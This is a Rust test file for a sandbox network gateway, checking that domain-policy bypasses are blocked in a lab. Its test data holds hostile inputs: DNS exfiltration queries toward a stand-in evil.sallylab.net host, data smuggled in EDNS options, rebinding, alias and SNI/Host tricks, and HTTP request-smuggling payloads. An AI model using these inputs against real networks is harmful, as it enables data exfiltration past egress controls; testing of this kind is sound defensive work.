@@ -1,0 +1,300 @@
+//! Attacks on a domain policy that an ordinary product lets through; each is proven to leak without the gateway.
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use lab::client::{self, PATIENCE, at, connect, connect_within, exchange};
+use lab::dns::{self, kind, query};
+use lab::origin::{Reply, port};
+use lab::topology::{OTHER4, PUBLIC4, ip};
+use lab::{Lab, Leak, Sandbox, denied, policies, tls};
+
+const SHORT: Duration = Duration::from_millis(800);
+
+/// Whether a question with this text, or any frame that holds it, left towards the internet.
+fn told(lab: &Lab, queries: usize, frames: usize, text: &str) -> Leak {
+    Leak::when(lab.origins.asked(queries, text), "an upstream query carried it")
+        .or(Leak::when(lab.capture.holds(frames, text.as_bytes()), "a frame carried it"))
+}
+
+#[test]
+fn invariant_6_denied_names_cause_no_packet_of_any_type() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let (queries, frames) = (lab.origins.queries.mark(), lab.capture.mark());
+        for (n, kind) in [kind::A, kind::AAAA, kind::TXT, kind::MX, kind::NS, kind::SRV, kind::HTTPS, kind::ANY, 65_534]
+            .into_iter()
+            .enumerate()
+        {
+            let name = format!("s3cr3t-payload-{n}.evil.sallylab.net");
+            sandbox.run(|| dns::ask_udp(client::resolver(), &query(7, &name, kind), SHORT));
+            sandbox.run(|| dns::ask_tcp(client::resolver(), &query(8, &name, kind), SHORT));
+        }
+        told(lab, queries, frames, "s3cr3t-payload")
+    });
+}
+
+#[test]
+fn invariant_6_foreign_resolvers_are_never_asked() {
+    denied(policies::INTERNET, |lab, sandbox| {
+        let frames = lab.capture.mark();
+        for server in ["8.8.8.8", "2001:4860:4860::8888", "9.9.9.9"] {
+            let server = SocketAddr::new(ip(server), 53);
+            sandbox.run(|| dns::ask_udp(server, &query(7, "ok.sallylab.net", kind::A), SHORT));
+            sandbox.run(|| dns::ask_tcp(server, &query(8, "ok.sallylab.net", kind::A), SHORT));
+        }
+        let touched = |a| Leak::of(&lab.capture.touching(frames, ip(a)));
+        touched("8.8.8.8").or(touched("2001:4860:4860::8888")).or(touched("9.9.9.9"))
+    });
+}
+
+#[test]
+fn query_options_case_and_extra_questions_carry_nothing_out() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let (queries, frames) = (lab.origins.queries.mark(), lab.capture.mark());
+        // a private EDNS option
+        let mut option = query(7, "ok.sallylab.net", kind::A);
+        let length = option.len();
+        option[length - 2..].copy_from_slice(&20u16.to_be_bytes());
+        option.extend_from_slice(&65_001u16.to_be_bytes());
+        option.extend_from_slice(&16u16.to_be_bytes());
+        option.extend_from_slice(b"s3cr3t-in-option");
+        sandbox.run(|| dns::ask_udp(client::resolver(), &option, SHORT));
+        // a second question
+        let mut double = query(7, "ok.sallylab.net", kind::A);
+        double.truncate(double.len() - 11);
+        double[5] = 2;
+        double[11] = 0;
+        double.extend_from_slice(&dns::wire_name("s3cr3t-second.evil.sallylab.net"));
+        double.extend_from_slice(&[0, 1, 0, 1]);
+        sandbox.run(|| dns::ask_udp(client::resolver(), &double, SHORT));
+        told(lab, queries, frames, "s3cr3t-")
+    });
+}
+
+#[test]
+fn a_name_bent_to_another_address_never_reaches_it() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let accepted = lab.origins.accepted.mark();
+        // as with an /etc/hosts entry: the right server name, the attacker's address
+        let to = SocketAddr::new(ip(OTHER4), port::TLS);
+        let hello = tls::client_hello("ok.sallylab.net");
+        sandbox.run(|| {
+            if let client::Connect::Open(mut stream) = connect_within(to, SHORT) {
+                exchange(&mut stream, &hello);
+            }
+        });
+        Leak::of(&lab.origins.accepted.since(accepted).into_iter().filter(|a| a.local == to).collect::<Vec<_>>())
+    });
+}
+
+#[test]
+fn answers_that_lead_to_forbidden_addresses_are_never_dialled() {
+    denied(policies::DOMAINS_ANY, |lab, sandbox| {
+        let zone = &lab.origins.zone;
+        let mut leak = Leak::Nothing;
+        for forbidden in ["10.0.0.5", "169.254.169.254", "192.168.77.10", "203.0.113.1", "100.64.0.5"] {
+            let mark = lab.capture.mark();
+            zone.addresses("ok.sallylab.net", &[PUBLIC4, forbidden]);
+            zone.addresses("four.sallylab.net", &[forbidden]);
+            for name in ["ok.sallylab.net", "four.sallylab.net"] {
+                sandbox.run(|| {
+                    for address in client::resolve4(name) {
+                        drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
+                    }
+                });
+            }
+            leak = leak.or(Leak::of(&lab.capture.touching(mark, ip(forbidden))));
+        }
+        leak
+    });
+}
+
+#[test]
+fn invariant_3_rebinding_never_reaches_the_second_address() {
+    denied(policies::DOMAINS_ANY, |lab, sandbox| {
+        let mark = lab.capture.mark();
+        lab.origins.zone.turns("four.sallylab.net", &[&[PUBLIC4], &["10.0.0.5"], &[PUBLIC4], &["10.0.0.5"]]);
+        for _ in 0..4 {
+            sandbox.run(|| {
+                for address in client::resolve4("four.sallylab.net") {
+                    drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
+                }
+            });
+        }
+        Leak::of(&lab.capture.touching(mark, ip("10.0.0.5")))
+    });
+}
+
+#[test]
+fn aliases_do_not_carry_permission_to_their_targets() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        lab.origins.zone.alias("a.ok.sallylab.net", "evil.sallylab.net", &[OTHER4]);
+        let names = lab.origins.server_names.mark();
+        sandbox.run(|| {
+            for address in client::resolve4("a.ok.sallylab.net") {
+                if let client::Connect::Open(mut stream) = connect_within(SocketAddr::new(address, 443), SHORT) {
+                    exchange(&mut stream, &tls::client_hello("evil.sallylab.net"));
+                }
+            }
+        });
+        Leak::of(&lab.origins.server_names.since(names))
+    });
+}
+
+#[test]
+fn a_server_name_or_host_that_is_not_the_leases_never_arrives() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let (names, requests) = (lab.origins.server_names.mark(), lab.origins.requests.mark());
+        sandbox.run(|| {
+            let mut stream = connect(at("ok.sallylab.net", 443)).expect_open();
+            exchange(&mut stream, &tls::client_hello("evil.sallylab.net"));
+            let mut stream = connect(at("ok.sallylab.net", 80)).expect_open();
+            exchange(&mut stream, b"GET / HTTP/1.1\r\nHost: evil.sallylab.net\r\nConnection: close\r\n\r\n");
+        });
+        Leak::of(&lab.origins.server_names.since(names)).or(Leak::of(&lab.origins.requests.since(requests)))
+    });
+}
+
+#[test]
+fn smuggling_shapes_never_arrive() {
+    let shapes: &[&str] = &[
+        "GET / HTTP/1.1\r\nHost: ok.sallylab.net\r\nHost: evil.sallylab.net\r\n\r\n",
+        "GET http://evil.sallylab.net/ HTTP/1.1\r\nHost: ok.sallylab.net\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost : ok.sallylab.net\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: ok.sallylab.net\r\n folded: yes\r\n\r\n",
+        "POST / HTTP/1.1\r\nHost: ok.sallylab.net\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        "POST / HTTP/1.1\r\nHost: ok.sallylab.net\r\nContent-Length: 4\r\nContent-Length: 0\r\n\r\nabcd",
+        "GET / HTTP/1.0\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: ok.sallylab.net@evil.sallylab.net\r\n\r\n",
+    ];
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let mut leaks: Vec<&str> = Vec::new();
+        for shape in shapes {
+            let mark = lab.origins.requests.mark();
+            sandbox.run(|| {
+                let mut stream = connect(at("ok.sallylab.net", 80)).expect_open();
+                let _ = stream.set_read_timeout(Some(SHORT));
+                exchange(&mut stream, shape.as_bytes());
+            });
+            if !lab.origins.requests.since(mark).is_empty() {
+                leaks.push(shape);
+            }
+        }
+        Leak::of(&leaks)
+    });
+}
+
+#[test]
+fn a_second_request_for_another_host_on_one_connection_never_arrives() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let mark = lab.origins.requests.mark();
+        let both = "GET /one HTTP/1.1\r\nHost: ok.sallylab.net\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.sallylab.net\r\n\r\n";
+        sandbox.run(|| {
+            let mut stream = connect(at("ok.sallylab.net", 80)).expect_open();
+            let _ = stream.set_read_timeout(Some(SHORT));
+            exchange(&mut stream, both.as_bytes());
+        });
+        let seen = lab.origins.requests.since(mark);
+        Leak::when(seen.iter().any(|r| r.text().contains("/two")), "the second request arrived")
+    });
+}
+
+#[test]
+fn plain_text_on_443_never_arrives() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let frames = lab.capture.mark();
+        sandbox.run(|| {
+            let mut stream = connect(at("ok.sallylab.net", 443)).expect_open();
+            let _ = stream.set_read_timeout(Some(SHORT));
+            exchange(&mut stream, b"GET /plain-on-443 HTTP/1.1\r\nHost: ok.sallylab.net\r\n\r\n");
+        });
+        Leak::when(lab.capture.holds(frames, b"plain-on-443"), "the bytes left")
+    });
+}
+
+#[test]
+fn unlisted_ports_and_literal_addresses_are_closed() {
+    denied(policies::DOMAINS, |lab, sandbox| {
+        let accepted = lab.origins.accepted.mark();
+        sandbox.run(|| {
+            for port in [port::ECHO, port::BANNER, port::TLS_ALT, port::HTTP_ALT] {
+                drop(connect_within(at("ok.sallylab.net", port), PATIENCE));
+                drop(connect_within(SocketAddr::new(ip(PUBLIC4), port), SHORT));
+            }
+        });
+        Leak::of(&lab.origins.accepted.since(accepted))
+    });
+}
+
+#[test]
+fn port_25_is_closed_to_the_internet_preset() {
+    fn knock(lab: &Lab, sandbox: &Sandbox) -> Leak {
+        let mark = lab.capture.mark();
+        sandbox.run(|| drop(connect_within(SocketAddr::new(ip(PUBLIC4), 25), SHORT)));
+        Leak::of(&lab.capture.touching(mark, ip(PUBLIC4)))
+    }
+    denied("internet", knock);
+}
+
+#[test]
+fn a_denied_name_or_address_beats_every_permission() {
+    let policy = "\
+policy: beats
+network: internet
+allow:
+  - { host: other.sallylab.net, ports: any, speaks: any }
+deny:
+  - cidr: 142.250.74.0/24
+    reason: not there
+  - host: evil.sallylab.net
+";
+    denied(policy, |lab, sandbox| {
+        let mark = lab.capture.mark();
+        lab.origins.zone.addresses("other.sallylab.net", &[OTHER4]);
+        sandbox.run(|| {
+            for name in ["other.sallylab.net", "evil.sallylab.net"] {
+                for address in client::resolve4(name) {
+                    drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
+                }
+            }
+            drop(connect_within(SocketAddr::new(ip(OTHER4), port::ECHO), SHORT));
+        });
+        Leak::of(&lab.capture.touching(mark, ip(OTHER4)))
+    });
+}
+
+#[test]
+fn a_lookup_of_one_sandbox_opens_nothing_for_another() {
+    denied(policies::DOMAINS_ANY, |lab, sandbox| {
+        let other = lab.sandbox(policies::DOMAINS_ANY);
+        let address = sandbox.run(|| client::resolve4("four.sallylab.net"));
+        let accepted = lab.origins.accepted.mark();
+        other.run(|| {
+            for address in address {
+                drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
+            }
+        });
+        Leak::of(&lab.origins.accepted.since(accepted))
+    });
+}
+
+#[test]
+fn silent_replies_and_upstream_garbage_open_nothing() {
+    denied(policies::DOMAINS_ANY, |lab, sandbox| {
+        let mark = lab.capture.mark();
+        // an answer about another name, with an address for it
+        lab.origins.zone.set(
+            "four.sallylab.net",
+            Reply::Custom(std::sync::Arc::new(|query, _| {
+                let other = lab::origin::address("victim.sallylab.net", OTHER4, 60);
+                Some(dns::response(query, 0, &[other]))
+            })),
+        );
+        sandbox.run(|| {
+            for address in client::resolve4("four.sallylab.net") {
+                drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
+            }
+        });
+        Leak::of(&lab.capture.touching(mark, ip(OTHER4)))
+    });
+}
